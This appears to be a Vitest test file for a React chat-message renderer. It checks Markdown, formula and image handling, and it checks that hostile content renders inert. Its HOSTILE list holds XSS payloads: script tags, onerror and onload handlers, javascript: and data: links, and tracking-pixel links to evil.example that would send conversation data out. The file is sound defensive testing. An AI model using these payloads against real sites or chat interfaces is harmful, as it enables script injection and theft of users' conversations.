import { act, cleanup, fireEvent, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import type { Message } from '../../../conversation/store';
import type { Note } from '../../../engine/machine';
import { aMessage, F16, F32 } from '../../../test/fixtures';
import { show, someServices } from '../../../test/services';
import { ChatMessage } from './ChatMessage';
import '../markdown/AnswerText'; // There already when it is asked for.

afterEach(cleanup);

async function showMessage(fields: Partial<Message<Note>>): Promise<HTMLElement> {
  const message = aMessage(fields);
  await act(async () => {
    show(<ChatMessage message={message} />, someServices());
  });
  return screen.getByTestId('message');
}

/** What could fetch, run or send something by itself. */
const ACTIVE =
  'script, img, iframe, object, embed, svg:not(.lucide), style, link, form, video, audio, base';

const HOSTILE = [
  '<script>globalThis.hacked = true</script>',
  '<img src=x onerror="globalThis.hacked = true">',
  '<svg onload="globalThis.hacked = true"></svg>',
  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  '<a href="javascript:globalThis.hacked = true" onclick="globalThis.hacked = true">x</a>',
  '[click](javascript:globalThis.hacked=true)',
  '[click](JaVaScRiPt:globalThis.hacked=true)',
  '[click](java&#10;script:globalThis.hacked=true)',
  '[click](data:text/html,<script>globalThis.hacked=true</script>)',
  '[click](vbscript:hacked)',
  '<javascript:globalThis.hacked=true>',
  '![pixel](https://evil.example/?conversation=secret)',
  '![pixel][1]\n\n[1]: https://evil.example/pixel.png',
  '[![pixel](https://evil.example/p.png)](https://evil.example/)',
  '<style>@import "https://evil.example/x.css";</style>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
];

describe('a hostile answer', () => {
  it.each(HOSTILE)('renders inert: %s', async (content) => {
    const empty = (await showMessage({ content: '' })).innerHTML;
    cleanup();
    const message = await showMessage({ content });
    expect(message.innerHTML.length).toBeGreaterThan(empty.length);
    expect(message.querySelector(ACTIVE)).toBeNull();
    for (const element of message.querySelectorAll('*')) {
      const handlers = element.getAttributeNames().filter((name) => name.startsWith('on'));
      expect(handlers).toEqual([]);
      for (const attribute of ['href', 'src', 'srcdoc', 'action', 'formaction', 'style']) {
        const value = element.getAttribute(attribute) ?? '';
        expect(value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
        if (attribute !== 'href') expect(value).toBe('');
      }
    }
    expect(globalThis).not.toHaveProperty('hacked');
  });

  it('is as inert in what a visitor wrote and in what was interrupted', async () => {
    for (const content of HOSTILE) {
      const question = await showMessage({ role: 'user', content });
      expect(question.querySelector(`a, ${ACTIVE}`)).toBeNull();
      expect(question.textContent).toContain(content.trim().slice(0, 10));
      cleanup();
      const answer = await showMessage({ interrupted: [content] });
      expect(answer.querySelector(`a, ${ACTIVE}`)).toBeNull();
      cleanup();
    }
  });
});

describe('an answer', () => {
  it('is rendered as Markdown, with tables and code', async () => {
    const message = await showMessage({
      content: '**Bold** and `code`\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```py\nprint(1)\n```',
    });
    for (const element of ['strong', 'code', 'table', 'pre']) {
      expect(message.querySelector(element)).not.toBeNull();
    }
  });

  it('finds what a reference stands for in another block', async () => {
    const content = 'See [it][1].\n\nMore.\n\n[1]: https://example.org/page';
    const link = (await showMessage({ content })).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/page');
  });

  it('sets formulas, once KaTeX is there', async () => {
    await showMessage({ content: 'So $x^2$ is.' });
    const formula = await waitFor(() => document.querySelector('.katex') ?? Promise.reject());
    expect(formula.textContent).toContain('x');
  });

  it('folds a model’s thoughts away from its answer', async () => {
    const message = await showMessage({ content: '<think>Hm.</think>Because.' });
    expect(message.querySelector('details')?.open).toBe(false);
    expect(screen.getByTestId('answer').textContent).toBe('Because.');
  });

  it('fetches an image only when the reader asks for it, and says from where', async () => {
    const message = await showMessage({ content: '![a map](https://maps.example/x.png?q=1)' });
    expect(message.querySelector('img')).toBeNull();
    expect(message.textContent).toContain('maps.example');
    fireEvent.click(screen.getByRole('button', { name: 'Load image' }));
    const image = message.querySelector('img');
    expect(image?.src).toBe('https://maps.example/x.png?q=1');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('opens a link in a tab of its own that knows nothing of this page', async () => {
    const message = await showMessage({ content: '[words](https://example.org/page)' });
    const link = message.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/page');
    expect(link?.target).toBe('_blank');
    expect(link?.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  });

  it.each([
    'waiting',
    'streaming',
    'done',
    'stopped',
    'failed',
  ] as const)('carries its role and state for tools: %s', async (status) => {
    const message = await showMessage({ status });
    expect(message.dataset).toMatchObject({ role: 'assistant', status });
  });

  it('keeps what an interrupted answer had said', async () => {
    const message = await showMessage({
      content: 'Because.',
      interrupted: ['Once upon', '<think>Now what?</think>There was'],
    });
    expect(message.textContent).toContain('Once upon');
    expect(message.textContent).toContain('Now what?');
    expect(message.textContent).toContain('There was');
    expect(message.textContent).not.toContain('think>');
    expect(message.textContent).toContain('Because.');
  });

  it('says under itself why another model answered', async () => {
    await showMessage({
      content: 'Because.',
      notes: [
        {
          kind: 'stepped-down',
          from: F16.model_id,
          to: F32.model_id,
          error: 'shader-compilation',
        },
      ],
    });
    const notice = screen.getByTestId('notice');
    expect(notice.dataset.kind).toBe('stepped-down');
    expect(notice.textContent).toContain('16-bit arithmetic');
  });

  it('says why there is none, in words for people', async () => {
    const message = await showMessage({ status: 'failed', errorKind: 'out-of-memory' });
    expect(message.textContent).toContain('more memory');
    expect(message.textContent).not.toContain('out-of-memory');
  });
});

it('formats what its budget reaches for, and more when it is asked to', async () => {
  const rows = `|${'1|'.repeat(50)}\n`.repeat(80);
  const table = `|${'a|'.repeat(50)}\n|${'-|'.repeat(50)}\n${rows}`;
  const message = await showMessage({ content: `${table}\n`.repeat(20) });
  const tables = () => message.querySelectorAll('table').length;
  const formatted = tables();
  expect(formatted).toBeGreaterThan(0);
  expect(formatted).toBeLessThan(20);
  expect(screen.getAllByTestId('format-anyway')).toHaveLength(20 - formatted);
  await act(async () => fireEvent.click(screen.getAllByTestId('format-anyway')[0] as Element));
  expect(tables()).toBe(formatted + 1);
});

it('never formats what is too deep, whoever asks', async () => {
  await showMessage({ content: `${'> '.repeat(5000)}deep` });
  expect(screen.queryByTestId('format-anyway')).toBeNull();
});
